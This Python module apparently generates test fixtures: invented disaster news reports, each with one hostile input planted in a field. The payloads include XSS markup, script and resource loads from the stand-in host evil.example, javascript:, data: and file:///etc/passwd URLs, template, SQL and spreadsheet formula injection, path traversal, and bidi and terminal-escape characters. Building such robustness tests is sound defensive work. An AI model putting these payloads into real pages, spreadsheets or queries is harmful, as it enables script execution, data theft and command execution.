"""Reports that mean harm to whoever looks at them: markup, scripts, addresses and marks in every place that a page shows.

Each report carries one attack in one place (its title, outlet, address, a name, a quotation, a figure's words, a line of its own),
so that every attack stands once in every place before any is repeated; what repeats has other names and numbers around it.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from random import Random
from typing import Any

# What a script would do if one ran, and what would be asked for if anything were: the browser of the proof hears of both.
RUN = "alert('ran')"
ELSEWHERE = "evil.example"

_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src=//{ELSEWHERE}/a.js></script>",
    f"</script><script>{RUN}</script>",
    f"</title></head><body><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</textarea></select></table><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=//{ELSEWHERE}/a.png>",
    f'<img srcset="//{ELSEWHERE}/a.png 2x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>here</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=//{ELSEWHERE}/a.svg#a>",
    f"<svg><foreignObject><iframe onload={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src=//{ELSEWHERE}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=//{ELSEWHERE}/a.swf>",
    f"<video autoplay><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<a href=javascript:{RUN}>here</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>here</a>",
    f"<form action=//{ELSEWHERE}><button formaction=javascript:{RUN}>Search</button>",
    f"<base href=//{ELSEWHERE}/>",
    f'<meta http-equiv=refresh content="0;url=//{ELSEWHERE}/">',
    f"<link rel=stylesheet href=//{ELSEWHERE}/a.css>",
    f"<link rel=prefetch href=//{ELSEWHERE}/a>",
    "<style>* { display: none }</style>",
    f"<style>@import '//{ELSEWHERE}/a.css'</style>",
    f"<p style='background:url(//{ELSEWHERE}/a.png);position:fixed;inset:0'>over all</p>",
    "<template><slot>", "<plaintext>", "<!--", "<table><tr><td>", "</main></body></html>", "<dialog open>", "<h1 hidden>",
)  # fmt: skip
_ATTRIBUTES = (
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus tabindex='0",
    f"` onclick=`{RUN}`",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f' x onload={RUN} style=display:none',
    f"&quot; onload=&quot;{RUN}",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\x3cscript\\x3e{RUN}", f"\\u003cscript\\u003e{RUN}", f"%3Cscript%3E{RUN}%3C/script%3E", f"＜script＞{RUN}＜/script＞", f"+ADw-script+AD4-{RUN}",
    "{{ 7 * 7 }}", "{% for a in range(999999999) %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%n%(a)s{0}",
    "__proto__", "constructor", "q", "main", "document", "../../../../etc/passwd", "..\\..\\windows", "%2e%2e%2f", "C:\\con",
    "\r\nSet-Cookie: a=b\r\n\r\n<b>", "=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd", "+1+1", "\t=1+1",
    "';DROP TABLE report;--", "\" OR 1=1 --", "* NEAR(a b) OR ^x",
)  # fmt: skip
_MARKS = (
    "\u202etxet desrever", "\u202d\u202e\u202d", "\u2067\u2067\u2067", "\u2066a\u2069\u2069\u2069", "a\u202b\u202b\u202bb", "\u202c\u202c\u202c",
    "\u200f12\u200f-\u200f40", "\u061c12", "\u200e\u200f\u200e", "אבג 12 دهو", "مَرْحَبًا بِكُم", "12\u2067 - 40\u2069",
    "\u200b\u200b\u200b", "a\u200bb\u200cc\u200dd\u2060e\ufeff", "\u00ad\u00ad soft\u00adhyphens", "\ufeff", "\u034f\u180e", "\U000e0041\U000e0042\U000e007f",
    "a" + "\u0301" * 60, "Z\u0310\u0334\u0489" * 20, "\u0e49" * 40, "\u20dd\u20e0" * 9, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ufe0f\ufe0e",
    "\x00", "\x07\x08\x7f", "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x9b31m", "\u2028line\u2029paragraph\u0085", "\x0b\x0c", "\r", "\ufffe\uffff", "\U0010ffff",
    "\u3164\u3164\u3164", "\u2800\u2800", "\u00a0" * 50, "\u3000" * 50, "W" * 3000, "a" * 500 + " " + "b" * 500, "—" * 400, "❚" * 200, "﷽" * 8, "𒐫" * 20,
    "1" * 400, "9,999,999,999,999,999,999", "0.000000000001", "-0", "Infinity", "NaN", "10^999",
)  # fmt: skip
ATTACKS = (*_ELEMENTS, *_ATTRIBUTES, *_MARKS)
_ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\nscript:{RUN}", f" javascript:{RUN}", f"\x01javascript:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:image/svg+xml,<svg onload=alert(1)>", "file:///etc/passwd", "blob:http://a", "//evil.example/a",
    "http://evil.example/\" onclick=\"alert('ran')", "http://evil.example/\u202e", "https://evil.example\\@good.example/", "http://[::1", "http://a:b@c/", "about:blank",
)  # fmt: skip

_TOWNS = ("Velmora", "Halden", "Orrin", "Sulmark", "Tarsa", "Pelin", "Kessel", "Norwick", "Estrand", "Valdry")
_PEOPLE = ("Ilse Tarn", "Bram Oake", "Ada Moor", "Joren Pell", "Mira Sand", "Karel Voss", "Greta Holm", "Pavel Orne")
_OFFICES = ("governor", "mayor", "minister", "general", "surgeon")
_DEEDS = ("the dam broke", "the ferry sank", "the bridge fell", "the mine flooded", "the train left its track")
PLACES = ("title", "outlet", "url", "speaker", "quotation", "content", "town", "line", "around a figure")


def invent(count: int, seed: int = 1) -> Iterator[dict[str, Any]]:
    """Yield so many records of hostile reports; the same seed gives the same. `attack` and `place` say what stands where.

    Most tell of few events, so that questions, copies and conflicts arise from what they say.
    """
    every = [
        *((attack, place) for place, attack in product(PLACES, ATTACKS) if place != "url"),
        *((address, "url") for address in _ADDRESSES),
    ]
    for number in range(count):
        attack, place = every[number % len(every)]
        yield _tell(Random(f"{seed} {number}"), number, attack, place)


def _tell(draw: Random, number: int, attack: str, place: str) -> dict[str, Any]:
    def here(words: str, where: str) -> str:
        return f"{words} {attack}" if place == where else words

    town, deed, killed = draw.choice(_TOWNS), draw.choice(_DEEDS), draw.randint(2, 90)
    speaker = here(f"{draw.choice(_OFFICES)} {draw.choice(_PEOPLE)}", "speaker")
    at, quoted = here(town, "town"), here(f"the water came at {draw.randint(1, 11)} in the night", "quotation")
    figure = f"{attack} {killed} {attack}" if place == "around a figure" else f"{killed}"
    day = draw.randint(1, 28)
    lines = [
        here(f"In {town} {deed}", "title"),
        f"At least {figure} people were killed in {at} when {here(deed, 'content')}, {speaker} said on {day} March 2031.",
        f"“We saw that {quoted},” {speaker} said.",
        f"{draw.choice(_PEOPLE)} denied that {killed} people were killed in {at}.",
        f"Report {number} of the desk in {draw.choice(_TOWNS)} tells the rest.",
    ]
    if place == "line":
        lines.insert(draw.randint(1, 4), attack)
    return {
        "title": lines[0],
        "outlet": here(f"{draw.choice(_TOWNS)} {draw.choice(('Post', 'Herald', 'Courier'))}", "outlet"),
        "url": attack if place == "url" else f"https://news.example/{number}",
        "published": f"2031-03-{day:02}",
        "text": "\n\n".join(lines),
        "attack": attack,
        "place": place,
    }
